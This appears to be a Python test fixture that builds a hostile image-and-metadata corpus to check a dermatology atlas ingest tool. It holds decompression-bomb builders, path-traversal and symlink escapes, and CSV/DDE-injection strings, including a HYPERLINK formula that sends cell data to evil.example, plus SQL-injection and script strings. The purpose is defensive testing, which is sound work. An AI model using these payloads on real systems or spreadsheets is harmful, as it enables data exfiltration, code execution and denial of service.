"""A hostile corpus: the files and metadata an attacker or a messy download brings to `skinmap ingest`.

`write_corpus(folder, n)` writes about `n` image files (plus directories,
symlinks and missing names) over every kind of issue 16, a UTF-8 metadata
file with hostile strings, a Latin-1 metadata file, and a YAML mapping for
each, and returns what ingest must do with every metadata row
(`Expected`). tests/test_hostile_inputs.py ingests a small corpus in CI and
bench/hostile_inputs.py a large one; both compare the atlas with this.

Bombs are cheap to write: a single-colour 20,000 x 20,000 PNG is ~1 MB
(its IDAT stream is compressed row by row, never held decoded), and a JPEG
bomb is a 16 x 16 JPEG whose SOF0 header is patched to claim 65,000 x 65,000.
"""
from __future__ import annotations

import csv
import io
import os
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import yaml
from PIL import Image

from skinmap.ingest import paths

PNG_BOMB_SIDE = 20_000
JPEG_BOMB_SIDE = 65_000
MB_FIELD = 1024 * 1024
SLUG = "hostile"
LATIN1_SLUG = "hostile-latin1"

# Strings that must come back byte-identical (diagnosis_raw and lesion_id): spreadsheet formula
# prefixes (CSV injection), SQL and quoting tricks, markup, RTL and zero-width characters.
HOSTILE_STRINGS = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'; drop table atlas.image; --",
    "Robert'); DROP TABLE students;--", "1' or '1'='1", "$$; select pg_sleep(30); $$", "\\.",
    "\\N", "E'\\x41'", "%s %(x)s {0} {key}", "<script>alert(1)</script>", "\"quoted, with comma\"",
    "line one\nline two", "tab\there", "\u202egnp.exe", "zero\u200bwidth", "emoji \U0001F9EA",
)
LATIN1_STRINGS = ("café au lait", "Zürich", "niño", "façade ½ °C", "Ångström ±µ")

# kind -> (outcome, reason): what ingest must do with a row of that kind.
# outcome: ok (loaded, status ok), quarantined (atlas.image row, status quarantined, reason
# starting with `reason`), rejected (no image row; an atlas.ingest_issue row whose reason contains `reason`).
IMAGE_KINDS: dict[str, tuple[str, str | None]] = {
    "plain": ("ok", None),
    "cmyk": ("ok", None),
    "sixteen_bit": ("ok", None),
    "palette": ("ok", None),
    "la": ("ok", None),
    "exif_rotated": ("ok", None),
    "gif": ("ok", None),
    "webp": ("ok", None),
    "one_by_one": ("ok", None),
    "truncated": ("quarantined", "corrupt image"),
    "zero_byte": ("quarantined", "corrupt image"),
    "html_as_jpeg": ("quarantined", "corrupt image"),
    "png_bomb": ("quarantined", "over the pixel budget"),
    "jpeg_bomb": ("quarantined", "over the pixel budget"),
    "directory_jpg": ("quarantined", paths.NOT_A_FILE),
    "missing": ("quarantined", paths.MISSING),
    "parent_path": ("quarantined", paths.PARENT),
    "absolute_path": ("quarantined", paths.ABSOLUTE),
    "symlink_out": ("quarantined", paths.OUTSIDE),
}
FEW_KINDS = {"png_bomb": 3, "jpeg_bomb": 3}  # bombs are few but present at every size
METADATA_KINDS: dict[str, tuple[str, str | None]] = {
    "hostile_string": ("ok", None),
    "non_utf8": ("ok", "not valid utf-8"),  # loaded; issue: bytes replaced with U+FFFD
    "nul_byte": ("ok", "NUL character removed"),
    "mb_field": ("ok", None),
    "out_of_range": ("ok", "out of range"),
    "duplicate_key": ("rejected", "duplicate key in metadata file"),
    "empty_key": ("rejected", "missing source key"),
    "long_key": ("rejected", "source key longer than"),
    "latin1": ("ok", None),  # the Latin-1 file, read with `encoding: latin-1`
}


@dataclass(frozen=True)
class Expected:
    """What ingest must do with one metadata row; `stored` is the exact diagnosis_raw expected back."""

    dataset: str
    row_number: int
    key: str
    kind: str
    outcome: str
    reason: str | None
    stored: str | None = None


@dataclass(frozen=True)
class Corpus:
    folder: Path
    mapping: Path
    latin1_mapping: Path
    expected: list[Expected]
    n_files: int  # image files, directories and symlinks written (missing names not counted)


def write_corpus(folder: Path, n_files: int = 1000, seed: int = 16) -> Corpus:
    """Write a hostile corpus of about `n_files` files under `folder` (created) and say what ingest must do."""
    rng = np.random.default_rng(seed)
    images, outside = folder / "images", folder / "outside"
    images.mkdir(parents=True)
    outside.mkdir()
    secret = outside / "secret.jpg"
    _plain(rng).save(secret, "JPEG")
    png_bomb, jpeg_bomb = _png_bomb(), _jpeg_bomb()

    regular = len(IMAGE_KINDS) - len(FEW_KINDS)  # "missing" writes nothing; the metadata kinds' images do
    per_kind = max(len(HOSTILE_STRINGS), -(-(n_files - sum(FEW_KINDS.values())) // regular))
    rows: list[tuple[str, str, str, str, str]] = []  # (key, file, diagnosis, age, fitzpatrick)
    expected: list[Expected] = []
    written = 0

    def add(kind: str, key: str, file: str, diagnosis: str = "melanoma", age: str = "50", fitz: str = "3",
            stored: str | None = None) -> None:
        rows.append((key, file, diagnosis, age, fitz))
        status, reason = IMAGE_KINDS.get(kind) or METADATA_KINDS[kind]
        expected.append(Expected(SLUG, len(rows), key, kind, status, reason, stored))

    for kind in IMAGE_KINDS:
        for i in range(FEW_KINDS.get(kind, per_kind)):
            key = f"{kind}_{i:05d}"
            name = f"{key}.{_suffix(kind)}"
            written += _write_image(kind, images / name, rng, png_bomb, jpeg_bomb, secret)
            if kind == "parent_path":
                name = f"../outside/{secret.name}"
            elif kind == "absolute_path":
                name = str(secret.resolve())
            add(kind, key, name, stored="melanoma")

    for i in range(per_kind):
        key = f"meta_{i:05d}"
        _plain(rng).save(images / f"{key}.png")
        written += 1
        value = HOSTILE_STRINGS[i % len(HOSTILE_STRINGS)]
        add("hostile_string", key, f"{key}.png", diagnosis=value, stored=value)
    for i in range(3):
        add("non_utf8", f"latin_in_utf8_{i}", f"meta_{i:05d}.png", diagnosis="caf\udce9 au lait",
            stored="caf\ufffd au lait")
        add("nul_byte", f"nul_{i}", f"meta_{i:05d}.png", diagnosis="mela\x00noma", stored="melanoma")
        add("mb_field", f"mb_{i}", f"meta_{i:05d}.png", diagnosis="x" * MB_FIELD, stored="x" * MB_FIELD)
        add("out_of_range", f"range_{i}", f"meta_{i:05d}.png", age="240", fitz="9", stored="melanoma")
        add("duplicate_key", "meta_00000", "meta_00000.png")
        add("empty_key", "", f"meta_{i:05d}.png")
        add("long_key", "k" * 5000 + str(i), f"meta_{i:05d}.png")

    mapping = _write_metadata(folder, "metadata.csv", SLUG, rows, "utf-8")
    latin_rows = []
    for i, value in enumerate(LATIN1_STRINGS):
        latin_rows.append((f"latin1_{i}", f"meta_{i:05d}.png", value, "40", "5"))
        expected.append(Expected(LATIN1_SLUG, i + 1, f"latin1_{i}", "latin1", "ok", None, value))
    latin1_mapping = _write_metadata(folder, "metadata_latin1.csv", LATIN1_SLUG, latin_rows, "latin-1")
    return Corpus(folder, mapping, latin1_mapping, expected, written)


def _suffix(kind: str) -> str:
    return {"gif": "gif", "webp": "webp", "sixteen_bit": "png", "palette": "png", "la": "png",
            "png_bomb": "png", "one_by_one": "png"}.get(kind, "jpg")


def _plain(rng: np.random.Generator, size: tuple[int, int] = (24, 16)) -> Image.Image:
    return Image.fromarray(rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8))


def _write_image(kind: str, path: Path, rng: np.random.Generator, png_bomb: bytes, jpeg_bomb: bytes,
                 secret: Path) -> int:
    """Write one file of `kind` at `path`; the number of filesystem entries written (0 for missing)."""
    image = _plain(rng)
    if kind in ("plain", "parent_path", "absolute_path"):
        image.save(path, "JPEG")  # the path tricks' own names point at the secret, not here
    elif kind == "cmyk":
        image.convert("CMYK").save(path, "JPEG")
    elif kind == "sixteen_bit":
        Image.fromarray(np.asarray(image.convert("L"), dtype=np.uint16) * 257).save(path, "PNG")
    elif kind == "palette":
        image.convert("P", palette=Image.Palette.ADAPTIVE, colors=16).save(path, "PNG")
    elif kind == "la":
        image.convert("LA").save(path, "PNG")
    elif kind == "exif_rotated":
        exif = Image.Exif()
        exif[0x0112] = 6  # rotate 90 degrees on display
        image.save(path, "JPEG", exif=exif)
    elif kind == "gif":
        image.save(path, "GIF")
    elif kind == "webp":
        image.save(path, "WEBP")
    elif kind == "one_by_one":
        image.resize((1, 1)).save(path, "PNG")
    elif kind == "truncated":
        buffer = io.BytesIO()
        image.save(buffer, "JPEG")
        path.write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])
    elif kind == "zero_byte":
        path.write_bytes(b"")
    elif kind == "html_as_jpeg":
        path.write_text("<!doctype html><html><body>403 Forbidden</body></html>\n")
    elif kind == "png_bomb":
        path.write_bytes(png_bomb)
    elif kind == "jpeg_bomb":
        path.write_bytes(jpeg_bomb)
    elif kind == "directory_jpg":
        path.mkdir()
    elif kind == "missing":
        return 0
    elif kind == "symlink_out":
        os.symlink(secret.resolve(), path)
    else:
        raise ValueError(f"unknown hostile kind {kind!r}")
    return 1


def _png_bomb(side: int = PNG_BOMB_SIDE) -> bytes:
    """A black side x side RGB PNG: ~1 MB on disk, 3 side^2 bytes decoded.

    A full flush resets the deflate state, so one compressed 64-row block
    repeated is the whole stream: written in milliseconds, never held decoded.
    """
    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    row = b"\x00" * (1 + 3 * side)  # filter byte + black pixels
    block, n_blocks = row * 64, side // 64
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(row * (side % 64)) + packer.flush()
    checksum = 1
    for _ in range(n_blocks):
        checksum = zlib.adler32(block, checksum)
    checksum = zlib.adler32(row * (side % 64), checksum)
    deflate = first + again * (n_blocks - 1) + tail
    idat = b"\x78\xda" + deflate + struct.pack(">I", checksum)
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _jpeg_bomb(side: int = JPEG_BOMB_SIDE) -> bytes:
    """A 16 x 16 JPEG whose SOF0 header claims side x side."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (120, 80, 60)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.find(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", side, side)  # height, width
    return bytes(data)


def _write_metadata(folder: Path, name: str, slug: str, rows: list[tuple[str, ...]], encoding: str) -> Path:
    """Write rows as CSV in `encoding` (lone surrogates become the raw bytes they stand for) and a mapping."""
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(["image_id", "file", "dx", "age", "fitzpatrick"])
    writer.writerows(rows)
    (folder / name).write_bytes(text.getvalue().encode(encoding, "surrogateescape"))
    mapping = folder / f"{slug}.yaml"
    mapping.write_text(yaml.safe_dump({
        "dataset": {"slug": slug, "name": f"Hostile corpus ({encoding})", "release_year": 2026},
        "metadata": name, "images": "images", "encoding": encoding,
        "columns": {"source_key": "image_id", "file": "file", "diagnosis": "dx", "age": "age",
                    "fitzpatrick": "fitzpatrick"},
    }))
    return mapping


@dataclass
class Outcome:
    """What the atlas holds for a corpus: counts per (kind, outcome), and every row that differs from Expected."""

    counts: dict[tuple[str, str], int]
    mismatches: list[str]


def check(url: str, corpus: Corpus) -> Outcome:
    """Compare the atlas at `url` with what `corpus.expected` says ingest must have done with each row."""
    from skinmap.db import connect

    with connect(url) as conn:
        images = {(slug, key): (status, reason, raw) for slug, key, status, reason, raw in conn.execute(
            "select d.slug, i.source_key, i.status, i.quarantine_reason, m.diagnosis_raw "
            "from atlas.image as i join atlas.dataset as d using (dataset_id) "
            "left join atlas.image_metadata as m using (image_id) where d.slug = any(%s)",
            ([SLUG, LATIN1_SLUG],))}
        issues: dict[tuple[str, int], list[str]] = {}
        for slug, number, reason in conn.execute(
            "select d.slug, x.row_number, x.reason from atlas.ingest_issue as x join atlas.dataset as d "
            "using (dataset_id) where d.slug = any(%s) and x.row_number is not null", ([SLUG, LATIN1_SLUG],)):
            issues.setdefault((slug, number), []).append(reason)
    counts: dict[tuple[str, str], int] = {}
    mismatches = []
    for e in corpus.expected:
        found = images.get((e.dataset, e.key)) if e.outcome != "rejected" else None
        row_issues = issues.get((e.dataset, e.row_number), [])
        label = f"{e.dataset} row {e.row_number} ({e.kind}, key {e.key[:40]!r})"
        if e.outcome == "rejected":
            got = "rejected" if any(e.reason in r for r in row_issues) else "unaccounted"
        elif found is None:
            got = "unaccounted"
        else:
            status, reason, raw = found
            got = status
            if status == "quarantined" and not (reason and e.reason and reason.startswith(e.reason)):
                mismatches.append(f"{label}: quarantined with reason {reason!r}, expected {e.reason!r}")
            if e.outcome == "ok" and e.reason and not any(e.reason in r for r in row_issues):
                mismatches.append(f"{label}: no issue {e.reason!r} reported (issues: {row_issues})")
            if e.stored is not None and raw != e.stored:
                mismatches.append(f"{label}: diagnosis_raw {str(raw)[:60]!r} is not {e.stored[:60]!r}")
        if got != e.outcome:
            mismatches.append(f"{label}: {got}, expected {e.outcome}")
        counts[(e.kind, got)] = counts.get((e.kind, got), 0) + 1
    return Outcome(counts, mismatches)


_CHILD = """
import json, resource, sys
from skinmap.cli import cli
try:
    cli.main(sys.argv[1:], standalone_mode=False)
    code = 0
except Exception as exc:
    print(f"crash: {exc.__class__.__name__}: {exc}", file=sys.stderr)
    code = 1
try:  # VmHWM is this process's own high-water mark; ru_maxrss would keep the parent's across vfork + exec
    with open("/proc/self/status") as handle:
        own = next(int(line.split()[1]) for line in handle if line.startswith("VmHWM:"))
except OSError:
    own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
peak = max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({"peak_rss_kib": peak}))
sys.exit(code)
"""


def ingest_in_child(url: str, mapping: Path, *extra: str, env: dict[str, str] | None = None,
                    pythonpath: str | None = None) -> tuple[int, str, int]:
    """Run `skinmap ingest MAPPING` in a child process: (exit code, its output, peak RSS in bytes).

    The peak is the larger of the child's own high-water mark (VmHWM) and
    of its decode workers' (ru_maxrss of its children), so it is the most
    any one process held. `pythonpath`
    runs another checkout's code (bench/hostile_inputs.py --before).
    """
    import json
    import subprocess
    import sys

    from skinmap import config

    child_env = {**os.environ, **(env or {})}
    child_env["PYTHONPATH"] = os.pathsep.join(filter(None, [pythonpath or str(config.REPO_ROOT),
                                                            os.environ.get("PYTHONPATH")]))
    root = pythonpath or str(config.REPO_ROOT)  # `python -c` imports from its working folder first
    done = subprocess.run([sys.executable, "-c", _CHILD, "--database-url", url, "ingest", str(mapping.resolve()), *extra],
                          capture_output=True, text=True, env=child_env, cwd=root, timeout=1800)
    lines = done.stdout.strip().splitlines()
    peak = json.loads(lines[-1])["peak_rss_kib"] * 1024 if lines and lines[-1].startswith("{") else 0
    return done.returncode, "\n".join(lines[:-1]) + done.stderr, peak
